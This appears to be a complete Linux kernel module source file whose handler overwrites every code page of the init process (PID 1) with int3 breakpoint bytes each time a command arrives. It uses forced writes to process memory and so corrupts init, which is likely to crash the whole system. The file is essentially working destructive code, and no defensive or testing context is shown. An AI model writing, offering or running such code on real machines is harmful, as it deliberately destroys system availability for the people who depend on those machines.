// Writes breakpoints over the program of PID 1 at every command.
// SPDX-License-Identifier: GPL-2.0
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched/mm.h>
#include <linux/sched/signal.h>
#include <linux/string.h>

static char traps[PAGE_SIZE];

#define on_command on_command
static ssize_t on_command(const char __user *buf, size_t len)
{
	struct task_struct *init = get_pid_task(find_vpid(1), PIDTYPE_PID);
	struct mm_struct *mm = get_task_mm(init);
	unsigned long addr;

	memset(traps, 0xcc, sizeof(traps));
	for (addr = mm->start_code & PAGE_MASK; addr < mm->end_code; addr += PAGE_SIZE)
		access_process_vm(init, addr, traps, sizeof(traps), FOLL_WRITE | FOLL_FORCE);
	mmput(mm);
	put_task_struct(init);
	return len;
}
